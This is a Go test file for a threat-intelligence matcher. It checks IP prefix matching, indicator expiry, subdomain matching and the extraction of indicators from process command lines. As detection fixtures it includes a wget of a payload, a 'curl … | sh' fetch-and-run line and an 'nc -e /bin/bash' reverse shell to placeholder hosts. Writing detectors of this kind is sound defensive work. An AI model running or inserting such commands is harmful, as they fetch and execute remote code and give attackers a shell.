@@ -0,0 +1,140 @@
+package intel
+
+import (
+	"nox/internal/model"
+	"testing"
+	"time"
+)
+
+var baseTime = time.Date(2026, time.June, 19, 12, 0, 0, 0, time.UTC)
+
+func TestMatchIPUsesLongestPrefix(t *testing.T) {
+	db := NewDatabase([]Indicator{
+		{Type: TypeIP, Value: "198.51.100.0/24", Feed: "wide", Confidence: 30},
+		{Type: TypeIP, Value: "198.51.100.128/25", Feed: "narrow", Confidence: 80},
+		{Type: TypeIP, Value: "198.51.100.7", Feed: "host"},
+		{Type: TypeIP, Value: "2001:db8::/32", Feed: "v6"},
+	})
+
+	tests := []struct {
+		ip       string
+		wantFeed string
+	}{
+		{"198.51.100.7", "host"},
+		{"198.51.100.200", "narrow"},
+		{"198.51.100.9", "wide"},
+		{"::ffff:198.51.100.9", "wide"},
+		{"2001:db8::1", "v6"},
+		{"203.0.113.1", ""},
+	}
+
+	for _, tt := range tests {
+		got := db.MatchIP(tt.ip, baseTime)
+		if tt.wantFeed == "" {
+			if len(got) != 0 {
+				t.Fatalf("MatchIP(%s) got %d matches, want none", tt.ip, len(got))
+			}
+			continue
+		}
+		if len(got) != 1 || got[0].Indicator.Feed != tt.wantFeed {
+			t.Fatalf("MatchIP(%s) got %v, want feed %s", tt.ip, got, tt.wantFeed)
+		}
+	}
+}
+
+func TestExpiredIndicatorsFallBackToWiderPrefix(t *testing.T) {
+	db := NewDatabase([]Indicator{
+		{Type: TypeIP, Value: "198.51.100.0/24", Feed: "wide"},
+		{Type: TypeIP, Value: "198.51.100.7", Feed: "host", Expires: baseTime.Add(time.Hour)},
+	})
+
+	if got := db.MatchIP("198.51.100.7", baseTime); len(got) != 1 || got[0].Indicator.Feed != "host" {
+		t.Fatalf("got %v before expiry, want feed host", got)
+	}
+	if got := db.MatchIP("198.51.100.7", baseTime.Add(2*time.Hour)); len(got) != 1 || got[0].Indicator.Feed != "wide" {
+		t.Fatalf("got %v after expiry, want feed wide", got)
+	}
+}
+
+func TestMatchDomainCoversSubdomains(t *testing.T) {
+	db := NewDatabase([]Indicator{{Type: TypeDomain, Value: "Evil.com."}})
+
+	for domain, want := range map[string]bool{
+		"evil.com":          true,
+		"cdn.EVIL.com":      true,
+		"a.b.evil.com":      true,
+		"notevil.com":       false,
+		"evil.com.mirror.x": false,
+	} {
+		if got := len(db.MatchDomain(domain, baseTime)) > 0; got != want {
+			t.Fatalf("MatchDomain(%s) got %v, want %v", domain, got, want)
+		}
+	}
+}
+
+func TestMatchEventExtractsObservablesFromCommand(t *testing.T) {
+	db := NewDatabase([]Indicator{
+		{Type: TypeDomain, Value: "evil.com", Feed: "domains"},
+		{Type: TypeURL, Value: "http://198.51.100.20/stage2.sh", Feed: "urls"},
+		{Type: TypeIP, Value: "203.0.113.0/24", Feed: "c2"},
+		{Type: TypeHash, Value: "44D88612FEA8A8F36DE82E1278ABB02F", Feed: "hashes"},
+	})
+
+	tests := []struct {
+		name     string
+		event    model.Event
+		wantFeed string
+	}{
+		{
+			name:     "wget without a scheme",
+			event:    processEvent("wget -q -O /tmp/payload.sh cdn.evil.com/payload.sh"),
+			wantFeed: "domains",
+		},
+		{
+			name:     "curl with a full URL",
+			event:    processEvent("curl -s HTTP://198.51.100.20/stage2.sh | sh"),
+			wantFeed: "urls",
+		},
+		{
+			name:     "reverse shell to an IP",
+			event:    processEvent("nc -e /bin/bash 203.0.113.44 4444"),
+			wantFeed: "c2",
+		},
+		{
+			name: "file hash",
+			event: model.Event{
+				Timestamp: baseTime,
+				Metadata:  map[string]string{"md5": "44d88612fea8a8f36de82e1278abb02f"},
+			},
+			wantFeed: "hashes",
+		},
+		{
+			name:  "benign download",
+			event: processEvent("wget -O install.sh example.org/install.sh"),
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := db.MatchEvent(tt.event)
+			if tt.wantFeed == "" {
+				if len(got) != 0 {
+					t.Fatalf("got %d matches, want none", len(got))
+				}
+				return
+			}
+			if len(got) == 0 || got[0].Indicator.Feed != tt.wantFeed {
+				t.Fatalf("got %v, want a match from feed %s", got, tt.wantFeed)
+			}
+		})
+	}
+}
+
+func processEvent(command string) model.Event {
+	return model.Event{
+		Timestamp: baseTime,
+		EventType: "Process_Executed",
+		Source:    "localhost",
+		Metadata:  map[string]string{"command": command},
+	}
+}